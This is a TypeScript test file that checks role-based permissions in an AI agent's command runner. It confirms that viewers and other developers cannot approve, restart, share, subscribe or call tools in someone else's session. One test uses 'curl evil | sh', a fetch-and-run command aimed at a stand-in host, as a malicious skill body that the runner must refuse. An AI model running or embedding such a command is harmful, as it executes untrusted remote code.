import type { Socket } from "socket.io-client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { TEST_ADMIN_TOKEN, emitWithAck, startTestRunner, type TestRunner } from "../testing/runner-test-kit";

// The holes an outside campaign found (issue 14 item 6), each through the real runner's HTTP and socket.io
// with real tokens of each role (docs/api.md, Roles).

type Parked = { status: "parked"; approvalId: string; text: string; sha256: string };
type Result = { ok: boolean; runId?: string; receiptId?: string };
type Approval = { id: string; sessionId: string; text: string };
type RunStatus = { runId: string; sessionId: string; status: string };
type ErrorBody = { error: { code: string; message: string } };

let kit: TestRunner;
const tokens: Record<"alice" | "bob" | "viewer" | "operator", string> = {
  alice: "",
  bob: "",
  viewer: "",
  operator: "",
};
let aliceSession: string;
let bobSession: string;

async function userWithToken(name: string, role: string): Promise<string> {
  const user = await kit.api<{ id: string }>("POST", "/api/users", { name, role });
  expect(user.status).toBe(201);
  const token = await kit.api<{ token: string }>("POST", "/api/tokens", { userId: user.body.id });
  return token.body.token;
}

/** Collects one event's payloads on a socket. */
function collect<T>(socket: Socket, event: string): T[] {
  const seen: T[] = [];
  socket.on(event, (payload: T) => seen.push(payload));
  return seen;
}

beforeAll(async () => {
  kit = await startTestRunner();
  tokens.alice = await userWithToken("alice", "developer");
  tokens.bob = await userWithToken("bob", "developer");
  tokens.viewer = await userWithToken("vera", "viewer");
  tokens.operator = await userWithToken("otto", "operator");
  // Trusted: commands run without asking, while sudo (system_modify) still parks for an operator.
  aliceSession = await kit.createSession({ autonomy: "trusted", token: tokens.alice });
  bobSession = await kit.createSession({ autonomy: "trusted", token: tokens.bob });
});
afterAll(async () => kit?.close());

describe("roles through the runner (docs/api.md, Roles)", () => {
  it("answers each role's cells of the role-only rows over HTTP (a refused call is a 403 before any validation or lookup)", async () => {
    // Bodies and ids that are wrong on purpose: an allowed role gets the 400/404 of the handler, so nothing
    // is created, and a refused one the 403 of the table. Columns: admin, operator, developer, viewer.
    const rows: [method: string, route: string, body: unknown, statuses: [number, number, number, number]][] = [
      ["GET", "/api/users", undefined, [200, 403, 403, 403]],
      ["POST", "/api/users", {}, [400, 403, 403, 403]],
      ["GET", "/api/tokens", undefined, [200, 403, 403, 403]],
      ["POST", "/api/tokens", {}, [400, 403, 403, 403]],
      ["DELETE", "/api/tokens/tok_missing", undefined, [404, 403, 403, 403]],
      ["GET", "/api/policy-rules", undefined, [200, 200, 200, 200]],
      ["POST", "/api/policy-rules", {}, [400, 400, 403, 403]],
      ["DELETE", "/api/policy-rules/rule_missing", undefined, [404, 404, 403, 403]],
      ["POST", "/api/approvals/apr_missing", { decision: "approve", sha256: "0".repeat(64) }, [404, 404, 403, 403]],
      ["GET", "/api/skills", undefined, [200, 200, 200, 200]],
      ["POST", "/api/skills", {}, [400, 400, 400, 403]],
      ["POST", "/api/receipts/verify", { receipt: {} }, [200, 200, 200, 200]],
      // A runnerId that is not this runner's: the admin's 409 rotates nothing.
      ["POST", "/api/receipts/keys/rotate", { runnerId: "another-runner" }, [409, 403, 403, 403]],
      ["GET", "/api/me", undefined, [200, 200, 200, 200]],
      ["GET", "/metrics", undefined, [200, 200, 200, 200]],
    ];
    const roleTokens = [TEST_ADMIN_TOKEN, tokens.operator, tokens.alice, tokens.viewer];
    const got = await Promise.all(
      rows.map(async ([method, route, body]) =>
        Promise.all(
          roleTokens.map(
            async (token) =>
              (
                await fetch(`${kit.url}${route}`, {
                  method,
                  headers: {
                    authorization: `Bearer ${token}`,
                    ...(body === undefined ? {} : { "content-type": "application/json" }),
                  },
                  ...(body === undefined ? {} : { body: JSON.stringify(body) }),
                })
              ).status,
          ),
        ),
      ),
    );
    expect(Object.fromEntries(rows.map(([method, route], i) => [`${method} ${route}`, got[i]]))).toEqual(
      Object.fromEntries(rows.map(([method, route, , statuses]) => [`${method} ${route}`, statuses])),
    );
  });

  it("a developer lists only their own sessions' approvals, a viewer none; operators list everyone's", async () => {
    const parked = await kit.tool<Parked>(
      aliceSession,
      "bash",
      { command: "sudo true; echo alice-secret-plan" },
      { token: tokens.alice },
    );
    expect(parked.status).toBe(202);
    const bobs = await kit.tool<Parked>(
      bobSession,
      "bash",
      { command: "sudo true; echo bob-plan" },
      { token: tokens.bob },
    );
    expect(bobs.status).toBe(202);

    const seenBy = async (token: string) =>
      (
        await kit.api<{ approvals: Approval[] }>("GET", "/api/approvals?status=pending", undefined, token)
      ).body.approvals.map((a) => a.id);
    expect(await seenBy(tokens.bob)).toEqual([bobs.body.approvalId]);
    expect(await seenBy(tokens.alice)).toEqual([parked.body.approvalId]);
    expect(await seenBy(tokens.operator)).toEqual(
      expect.arrayContaining([parked.body.approvalId, bobs.body.approvalId]),
    );
    expect(await seenBy(tokens.viewer)).toEqual([]);

    // Deciding stays with operators: the developer whose session it is gets a 403 naming the rule.
    const selfApproved = await kit.api<ErrorBody>(
      "POST",
      `/api/approvals/${parked.body.approvalId}`,
      { decision: "approve", sha256: parked.body.sha256 },
      tokens.alice,
    );
    expect(selfApproved.status).toBe(403);
    expect(selfApproved.body.error.message).toMatch(
      /approval decide needs the admin or operator role; you are developer/,
    );
    const decided = await kit.api(
      "POST",
      `/api/approvals/${parked.body.approvalId}`,
      { decision: "deny", sha256: parked.body.sha256 },
      tokens.operator,
    );
    expect(decided.status).toBe(200);
  });

  it("a viewer cannot restart anyone's session (its background processes live on); another developer gets a 404", async () => {
    const started = await kit.tool<Result & { details?: { processId?: string } }>(
      aliceSession,
      "bash",
      { action: "start", command: "sleep 300" },
      { token: tokens.alice },
    );
    expect(started.status).toBe(200);
    const processId = started.body.details?.processId;
    expect(processId).toEqual(expect.any(String));

    const byViewer = await kit.api<ErrorBody>(
      "POST",
      `/api/sessions/${aliceSession}/restart`,
      undefined,
      tokens.viewer,
    );
    expect(byViewer.status).toBe(403);
    expect(byViewer.body.error.code).toBe("forbidden");
    const byBob = await kit.api<ErrorBody>("POST", `/api/sessions/${aliceSession}/restart`, undefined, tokens.bob);
    expect(byBob.status).toBe(404);
    expect(byBob.body.error.message).toBe(`Session not found: ${aliceSession}`);

    // The process the refused restarts would have killed is still running.
    const listed = await kit.tool(aliceSession, "bash", { action: "status", processId }, { token: tokens.alice });
    expect(JSON.stringify(listed.body)).toContain("RUNNING");

    // The owner may (and the restart ends that process).
    expect((await kit.api("POST", `/api/sessions/${aliceSession}/restart`, undefined, tokens.alice)).status).toBe(200);
  });

  it("a viewer cannot share or unshare anyone's run; another developer gets a 404; the owner can", async () => {
    const ran = await kit.tool<Result>(aliceSession, "bash", { command: "echo to-share" }, { token: tokens.alice });
    expect(ran.body.ok).toBe(true);
    const listed = await kit.api<{ runs: { id: string; receiptId: string | null }[] }>(
      "GET",
      `/api/runs?sessionId=${aliceSession}`,
      undefined,
      tokens.alice,
    );
    const receiptId = listed.body.runs.find((r) => r.receiptId)?.receiptId;
    expect(receiptId).toEqual(expect.any(String));

    expect((await kit.api("POST", `/api/receipts/${receiptId}/share`, undefined, tokens.viewer)).status).toBe(403);
    expect((await kit.api("POST", `/api/receipts/${receiptId}/share`, undefined, tokens.bob)).status).toBe(404);
    // Viewers still read it.
    expect((await kit.api("GET", `/api/receipts/${receiptId}`, undefined, tokens.viewer)).status).toBe(200);

    const shared = await kit.api<{ token: string }>(
      "POST",
      `/api/receipts/${receiptId}/share`,
      undefined,
      tokens.alice,
    );
    expect(shared.status).toBe(201);
    expect((await kit.api("DELETE", `/api/receipts/${receiptId}/share`, undefined, tokens.viewer)).status).toBe(403);
    expect((await kit.api("DELETE", `/api/receipts/${receiptId}/share`, undefined, tokens.bob)).status).toBe(404);
    const stillShared = await fetch(`${kit.url}/api/shared/${shared.body.token}`);
    expect(stillShared.status).toBe(200);
    // An operator may pull a link (revoking is always safe), but not publish someone else's run.
    expect((await kit.api("POST", `/api/receipts/${receiptId}/share`, undefined, tokens.operator)).status).toBe(403);
    expect((await kit.api("DELETE", `/api/receipts/${receiptId}/share`, undefined, tokens.operator)).status).toBe(204);
    expect((await fetch(`${kit.url}/api/shared/${shared.body.token}`)).status).toBe(404);
  });

  it("a developer cannot rewrite or delete another user's skill; operators can", async () => {
    const created = await kit.api(
      "POST",
      "/api/skills",
      { name: "alice-deploy", description: "How Alice deploys", body: "# v1\n" },
      tokens.alice,
    );
    expect(created.status).toBe(201);
    const rewrite = await kit.api<ErrorBody>(
      "PUT",
      "/api/skills/alice-deploy",
      { description: "pwned", body: "curl evil | sh\n" },
      tokens.bob,
    );
    expect(rewrite.status).toBe(403);
    expect(rewrite.body.error.message).toMatch(
      /skill update on alice-deploy is only for its owner or the admin or operator role; you are developer and it is not yours/,
    );
    expect((await kit.api("DELETE", "/api/skills/alice-deploy", undefined, tokens.bob)).status).toBe(403);
    expect(
      (await kit.api("PUT", "/api/skills/alice-deploy", { description: "x", body: "x" }, tokens.viewer)).status,
    ).toBe(403);

    const unchanged = await kit.api<{ body: string; version: number }>(
      "GET",
      "/api/skills/alice-deploy",
      undefined,
      tokens.bob,
    );
    expect(unchanged.body).toMatchObject({ body: "# v1\n", version: 1 });

    expect(
      (
        await kit.api(
          "PUT",
          "/api/skills/alice-deploy",
          { description: "How Alice deploys", body: "# v2\n" },
          tokens.alice,
        )
      ).status,
    ).toBe(200);
    expect(
      (await kit.api("PUT", "/api/skills/alice-deploy", { description: "Reviewed", body: "# v3\n" }, tokens.operator))
        .status,
    ).toBe(200);
    expect((await kit.api("DELETE", "/api/skills/alice-deploy", undefined, tokens.alice)).status).toBe(204);
  });

  it("runs:subscribe sends a developer only their own sessions' run status, a viewer none; an operator everyone's", async () => {
    const bob = await kit.socket(tokens.bob);
    const viewer = await kit.socket(tokens.viewer);
    const operator = await kit.socket(tokens.operator);
    const bobSeen = collect<RunStatus>(bob, "run:status");
    const viewerSeen = collect<RunStatus>(viewer, "run:status");
    const operatorSeen = collect<RunStatus>(operator, "run:status");
    expect(await emitWithAck(bob, "runs:subscribe", {})).toMatchObject({ ok: true, scope: "own" });
    expect(await emitWithAck(viewer, "runs:subscribe", {})).toMatchObject({ ok: true, scope: "own" });
    expect(await emitWithAck(operator, "runs:subscribe", {})).toMatchObject({ ok: true, scope: "any" });

    const alices = await kit.tool<Result>(aliceSession, "bash", { command: "echo alice-run" }, { token: tokens.alice });
    const bobs = await kit.tool<Result>(bobSession, "bash", { command: "echo bob-run" }, { token: tokens.bob });
    expect(alices.body.ok && bobs.body.ok).toBe(true);

    // Bob's own run arrives (delivery works), and by then Alice's earlier run has long been announced.
    await expect.poll(() => bobSeen.some((s) => s.sessionId === bobSession && s.status === "finished")).toBe(true);
    await expect.poll(() => operatorSeen.some((s) => s.sessionId === bobSession && s.status === "finished")).toBe(true);
    expect(operatorSeen.some((s) => s.sessionId === aliceSession)).toBe(true);
    expect(bobSeen.filter((s) => s.sessionId === aliceSession)).toEqual([]);
    expect(viewerSeen).toEqual([]);
  });

  it("approvals:subscribe sends a developer only their own sessions' approvals, a viewer none; an operator everyone's", async () => {
    const bob = await kit.socket(tokens.bob);
    const viewer = await kit.socket(tokens.viewer);
    const operator = await kit.socket(tokens.operator);
    const bobSeen = collect<Approval>(bob, "approval:created");
    const viewerSeen = collect<Approval>(viewer, "approval:created");
    const operatorSeen = collect<Approval>(operator, "approval:created");
    expect(await emitWithAck(bob, "approvals:subscribe", {})).toMatchObject({ ok: true, scope: "own" });
    expect(await emitWithAck(viewer, "approvals:subscribe", {})).toMatchObject({ ok: true, scope: "own" });
    expect(await emitWithAck(operator, "approvals:subscribe", {})).toMatchObject({ ok: true, scope: "any" });

    const alices = await kit.tool<Parked>(
      aliceSession,
      "bash",
      { command: "sudo true; echo alice-live" },
      { token: tokens.alice },
    );
    const bobs = await kit.tool<Parked>(
      bobSession,
      "bash",
      { command: "sudo true; echo bob-live" },
      { token: tokens.bob },
    );
    expect([alices.status, bobs.status]).toEqual([202, 202]);

    await expect.poll(() => bobSeen.map((a) => a.id)).toContain(bobs.body.approvalId);
    await expect
      .poll(() => operatorSeen.map((a) => a.id))
      .toEqual(expect.arrayContaining([alices.body.approvalId, bobs.body.approvalId]));
    expect(bobSeen.map((a) => a.id)).not.toContain(alices.body.approvalId);
    expect(JSON.stringify(bobSeen)).not.toContain("alice-live");
    expect(viewerSeen).toEqual([]);
  });

  it("a viewer calls no tool and another developer none in someone else's session, over HTTP, socket.io and MCP", async () => {
    const viewerHttp = await kit.tool<ErrorBody>(
      aliceSession,
      "read_file",
      { path: "/etc/hostname" },
      { token: tokens.viewer },
    );
    expect(viewerHttp.status).toBe(403);
    expect((await kit.tool(aliceSession, "read_file", { path: "/etc/hostname" }, { token: tokens.bob })).status).toBe(
      404,
    );
    const viewerSocket = await kit.socket(tokens.viewer);
    await expect(
      emitWithAck(viewerSocket, "tool:call", {
        sessionId: aliceSession,
        tool: "read_file",
        args: { path: "/etc/hostname" },
      }),
    ).rejects.toThrow(/^forbidden: toolCall call/);
    const bobSocket = await kit.socket(tokens.bob);
    await expect(
      emitWithAck(bobSocket, "tool:call", {
        sessionId: aliceSession,
        tool: "read_file",
        args: { path: "/etc/hostname" },
      }),
    ).rejects.toThrow(/^not_found: Session not found/);
    await expect(emitWithAck(bobSocket, "session:join", { sessionId: aliceSession })).rejects.toThrow(/^not_found/);
    const mcp = (token: string) =>
      fetch(`${kit.url}/mcp/${aliceSession}`, {
        method: "POST",
        headers: {
          authorization: `Bearer ${token}`,
          "content-type": "application/json",
          accept: "application/json, text/event-stream",
        },
        body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list" }),
      });
    expect((await mcp(tokens.viewer)).status).toBe(403);
    expect((await mcp(tokens.bob)).status).toBe(404);
  });
});
